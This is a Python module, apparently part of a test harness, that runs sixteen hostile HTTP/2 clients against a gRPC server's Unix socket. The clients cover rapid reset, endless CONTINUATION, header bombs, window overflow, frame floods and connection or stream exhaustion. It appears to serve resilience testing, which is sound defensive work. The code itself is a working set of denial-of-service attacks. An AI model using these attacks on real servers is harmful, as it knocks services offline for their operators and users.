"""Hostile clients of a gRPC socket, each in a process of its own.

    python -m harness.http2_attacks ATTACK SOCKET SECONDS [PATH REQUEST]

The process repeats an attack on new connections until the time is over, and prints how many it has
made. PATH and REQUEST (in hexadecimal) are a call with a large answer.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import NamedTuple

import h2.config
import h2.connection
import h2.settings

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING = 0, 1, 2, 3, 4, 6
WINDOW_UPDATE, CONTINUATION, UNKNOWN = 8, 9, 99
ROUNDS = 2000
CONNECTIONS = 70
_SEND_SECONDS = 1.0


class Call(NamedTuple):
    """A call with a large answer."""

    path: str
    request: bytes


def frame(kind: int, flags: int, id: int, payload: bytes) -> bytes:
    size = len(payload)
    return struct.pack("!BHBBI", size >> 16, size & 0xFFFF, kind, flags, id) + payload


class Attacker:
    """One connection."""

    def __init__(self, path: str, window: int = 65535) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(_SEND_SECONDS)
        self.sock.connect(path)
        config = h2.config.H2Configuration(client_side=True)
        self.h2 = h2.connection.H2Connection(config)
        self.h2.local_settings.update({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.h2.initiate_connection()
        self.flush()

    def flush(self, data: bytes = b"") -> None:
        self.sock.sendall(self.h2.data_to_send() + data)

    def call(self, path: str = "/runtime.v1.RuntimeService/Version") -> int:
        id = self.h2.get_next_available_stream_id()
        fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "a"}
        fields |= {"content-type": "application/grpc"}
        self.h2.send_headers(id, list(fields.items()))
        return id

    def send_until_closed(self, data: bytes) -> None:
        for _ in range(ROUNDS):
            self.flush(data)


def flood(data: bytes) -> Callable[[str, Call], None]:
    """Return an attack with one frame that is repeated."""

    def attack(path: str, call: Call) -> None:
        attacker = Attacker(path)
        attacker.call()
        attacker.send_until_closed(data * (1 + 65536 // len(data)))

    return attack


def rapid_reset(path: str, call: Call) -> None:
    attacker = Attacker(path)
    for _ in range(ROUNDS):
        attacker.h2.reset_stream(attacker.call())
        attacker.flush()


def endless_continuation(path: str, call: Call) -> None:
    attacker = Attacker(path)
    attacker.flush(frame(HEADERS, 0, 1, b"\0\x01x\x7f\xff\xff\xff\x0f"))
    attacker.send_until_closed(frame(CONTINUATION, 0, 1, b"x" * 100))


def header_bomb(path: str, call: Call) -> None:
    entry = b"\x40\x01x\x7f\xe1\x1e" + b"y" * 4000
    attacker = Attacker(path)
    for id in range(1, 199, 2):
        attacker.flush(frame(HEADERS, 4, id, entry + b"\xbe" * 12_000))


def window_overflow(path: str, call: Call) -> None:
    attacker = Attacker(path)
    for _ in range(ROUNDS):
        attacker.flush(frame(WINDOW_UPDATE, 0, attacker.call(), b"\x7f\xff\xff\xff"))


def bad_preface(path: str, call: Call) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(_SEND_SECONDS)
        sock.connect(path)
        for _ in range(ROUNDS):
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100)


def kept_connections(path: str, call: Call) -> None:
    kept = []
    for _ in range(CONNECTIONS):
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(path)
        kept.append(sock)
    time.sleep(1)


def half_open_streams(path: str, call: Call) -> None:
    kept = []
    for _ in range(CONNECTIONS):
        with contextlib.suppress(OSError):
            attacker = Attacker(path)
            for _ in range(100):
                attacker.call()
            attacker.flush()
            kept.append(attacker)
    time.sleep(1)


def unread_answers(path: str, call: Call) -> None:
    kept = []
    for _ in range(CONNECTIONS):
        with contextlib.suppress(OSError):
            attacker = Attacker(path, window=0)
            for _ in range(100):
                id = attacker.call(call.path)
                message = struct.pack("!BI", 0, len(call.request)) + call.request
                attacker.h2.send_data(id, message, end_stream=True)
            attacker.flush()
            kept.append(attacker)
    time.sleep(1)


def incomplete_messages(path: str, call: Call) -> None:
    kept = []
    for _ in range(10):
        with contextlib.suppress(OSError):
            attacker = Attacker(path)
            ids = [attacker.call() for _ in range(10)]
            head = struct.pack("!BI", 0, 15 << 20)
            attacker.flush(b"".join(frame(DATA, 0, id, head) for id in ids))
            for _ in range(100):
                attacker.flush(b"".join(frame(DATA, 0, id, b"x" * 16384) for id in ids))
            kept.append(attacker)


ATTACKS: dict[str, Callable[[str, Call], None]] = {
    "rapid reset": rapid_reset,
    "endless CONTINUATION": endless_continuation,
    "header bomb": header_bomb,
    "window overflow": window_overflow,
    "bad preface": bad_preface,
    "kept connections": kept_connections,
    "half-open streams": half_open_streams,
    "unread answers": unread_answers,
    "incomplete messages": incomplete_messages,
    "SETTINGS": flood(frame(SETTINGS, 0, 0, b"")),
    "table sizes": flood(frame(SETTINGS, 0, 0, b"\0\x01\xff\xff\xff\xff\0\x01\0\0\0\0" * 100)),
    "PING": flood(frame(PING, 0, 0, b"12345678")),
    "PRIORITY": flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "unknown frames": flood(frame(UNKNOWN, 0xFF, 1, b"")),
    "empty DATA": flood(frame(DATA, 0, 1, b"")),
    "tiny DATA": flood(frame(DATA, 0, 1, b"\0")),
}


def main() -> None:
    name, path, seconds, method, request = sys.argv[1:]
    call = Call(method, bytes.fromhex(request))
    deadline, made = time.monotonic() + float(seconds), 0
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):  # the engine has ended the connection
            ATTACKS[name](path, call)
        made += 1
    print(made)


if __name__ == "__main__":
    main()
